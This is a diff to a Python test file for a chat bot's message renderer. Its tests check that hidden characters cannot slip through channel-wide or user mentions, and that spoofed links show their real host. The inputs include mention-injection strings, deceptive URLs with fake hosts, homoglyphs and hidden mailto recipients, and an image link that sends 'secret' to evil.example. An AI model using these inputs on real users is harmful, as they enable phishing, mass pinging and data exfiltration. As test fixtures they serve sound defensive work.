@@ -13,17 +13,25 @@ from markdown_it.tree import SyntaxTreeNode
 from bot.core.text import clean
 from bot.rules.rendering import render, render_beginning
 from bot.rules.rendering.guards import unlinked
+from bot.rules.rendering.html import as_html
 from bot.rules.rendering.links import host
 from bot.rules.rendering.surfaces import Surface
 
 OWN = "<@UASKER>"
+UNSEEN = [  # or as good as: a mark stands on the letter before it
+    *("\u00ad", "\u0301", "\u034f", "\u061c", "\u115f", "\u180b", "\u200b", "\u2028", "\u20dd"),
+    *("\u2064", "\u2800", "\u3164", "\ufe0f", "\ufff9", "\U0001d173", "\U000e0100", "\\", " "),
+]
 SLACK = Surface(OWN)
 PLAIN = Surface(
     OWN, shows_tables=False, has_names_that_call=True, has_long_fences=False, deepest_heading=3
 )
 SURFACES = st.sampled_from([SLACK, PLAIN])
-LIVE = re.compile(r"<[\s\\\u200b]*(?:!(?:channel|here|everyone|group|subteam)|@\w)", re.IGNORECASE)
+LIVE = re.compile(
+    r"<[\s\\\u200b]*(?:!(?:channel|here|everyone|group|subteam)|@[&\w])", re.IGNORECASE
+)
 ADDRESS = re.compile(r":\\?/\\?/|www\.", re.IGNORECASE)
+_UNSEEN = re.compile("|".join(map(re.escape, UNSEEN)))
 
 PIECES = [
     *("<", "<<", ">", "!", "@", "|", "&", ";", " ", "\\", "\u200b", "\n", "-", "a", "b c", "."),
@@ -74,6 +82,23 @@ def test_nobody_is_mentioned_but_the_asker(text: str, surface: Surface) -> None:
     assert not mentioned(render(text, surface))
 
 
+@pytest.mark.parametrize("unseen", UNSEEN)
+@pytest.mark.parametrize("begin", ["<", "&lt;", "&amp;#x00000000003c;"])
+@pytest.mark.parametrize(
+    "sign", ["!here>", "!subteam^S1|x>", "@U1>", "@&1>", "&#000000000033;here>"]
+)
+def test_nothing_unseen_lets_a_mention_through(begin: str, unseen: str, sign: str) -> None:
+    for text in (
+        begin + unseen + sign,
+        begin + unseen * 8 + sign,
+        begin + f"{unseen}\u200b" * 20 + sign,
+    ):
+        for own in (text, f"`{text}`", f"| a |\n|---|\n| {text} |", f"[{text}](https://a.example)"):
+            assert not mentioned(_UNSEEN.sub("", render(own, PLAIN)))
+            for cut in range(len(own)):
+                assert render(own, PLAIN).startswith(render_beginning(own[:cut], PLAIN))
+
+
 @settings(deadline=None)
 @given(WORDS, SURFACES)
 @example("- first\n  ```\n![x](https://evil.example/?q=secret)", SLACK)
@@ -109,6 +134,39 @@ def test_every_link_shows_where_it_leads(text: str, surface: Surface) -> None:
             name = host(str(node.attrs["href"]))
             assert name
             assert name in _said(node)
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("<https://university.example@evil.example/x>", "<https://evil.example/x>"),
+        (
+            "<https://university.example:443@evil.example|it>",
+            "[it (evil.example)](https://evil.example)",
+        ),
+        (
+            "[a](https://a.example%2F@evil.example/@b)",
+            "[a (evil.example)](https://evil.example/@b)",
+        ),
+        (
+            "[a@b.example](mailto:a@b.example?bcc=c@evil.example)",
+            "[a@b.example](mailto:a@b.example)",
+        ),
+        ("<mailto:a@b.example?cc=c@evil.example>", "<a@b.example>"),
+        (
+            "[apple.com](https://\u0430pple.com)",
+            "[apple.com (xn--pple-43d.com)](https://xn--pple-43d.com)",
+        ),
+        ("[a.example](https:\\\\evil.example)", "a.example (https:%5Cevil.example)"),
+        (
+            "[a.example](<https://a.example\t.evil.example>)",
+            "[a.example (a.example%09.evil.example)](https://a.example%09.evil.example)",
+        ),
+    ],
+)
+def test_no_address_hides_who_is_asked(text: str, shown: str) -> None:
+    assert render(text, SLACK) == shown
+    assert "university" not in as_html(text)
 
 
 def _said(node: SyntaxTreeNode) -> str:
